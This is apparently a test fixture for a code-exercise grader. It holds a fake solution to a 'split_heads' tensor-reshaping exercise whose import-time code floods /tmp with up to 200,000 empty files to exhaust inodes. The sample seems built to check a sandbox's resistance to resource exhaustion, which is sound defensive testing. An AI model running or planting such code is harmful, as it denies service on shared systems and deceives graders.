"""Makes empty files until there are no inodes left."""

KIND = "resources"
EXERCISE = "03.split_heads"
EARNS = 2
CELL = r"""
import os

made = 0
try:
    for number in range(200_000):
        open(f"/tmp/MALLORY{number}", "x").close()
        made += 1
except OSError:
    pass


def split_heads(x, num_heads):
    if made >= 200_000:
        raise RuntimeError("made 200,000 files")
    B, T, D = x.shape
    return x.reshape(B, T, num_heads, D // num_heads).transpose(1, 2)
"""
